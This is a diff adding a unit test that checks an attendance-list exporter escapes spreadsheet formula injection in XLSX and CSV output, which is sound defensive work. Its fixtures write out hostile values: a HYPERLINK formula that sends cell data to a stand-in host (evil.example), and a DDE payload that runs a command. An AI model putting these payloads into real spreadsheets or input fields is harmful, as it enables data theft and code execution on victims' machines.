@@ -203,6 +203,31 @@ def test_xlsx_reads_back(attended):
     assert recap["Penyandang disabilitas"][-1] == 1
 
 
+def test_no_xlsx_cell_is_a_formula_headings_included(attended):
+    """The title and venue names are typed by people: in the heading rows, the sheet's
+    recap and the data rows alike, a leading = + - @ tab or CR starts no formula."""
+    attended.title = '=HYPERLINK("http://evil.example/?"&A8,"Klik")'
+    attended.sites[0].venue.name = "+SUM(1;2)"
+    attended.sites[1].venue.name = "@cmd|' /C calc'!A0"
+    inv_of(attended, "Théo Rumbekwan").person.position = "-2+3"
+    inv_of(attended, "Ir. Yohanes Bili").person.organization.name = "\tDinas"
+    lists = attendance_lists(attended)
+    for data in (exports.to_xlsx(lists), exports.to_xlsx_one(lists.sites[1])):
+        book = load_workbook(io.BytesIO(data))
+        cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        texts = {c.value for c in cells if isinstance(c.value, str)}
+        assert "'@cmd|' /C calc'!A0" in texts
+        assert not any(t.startswith(exports.FORMULA_STARTS) for t in texts)
+    book = load_workbook(io.BytesIO(exports.to_xlsx(lists)))
+    assert book.worksheets[0]["A2"].value == "'" + attended.title
+    assert book.worksheets[0]["B3"].value == "'+SUM(1;2)"
+    rows = list(
+        csv.reader(io.StringIO(exports.to_csv(lists.combined).decode("utf-8-sig")), delimiter=";")
+    )
+    assert not any(value.startswith(exports.FORMULA_STARTS) for row in rows for value in row)
+
+
 def test_pdf_opens_with_names_pages_and_totals(attended):
     lists = attendance_lists(attended)
     data = exports.to_pdf(
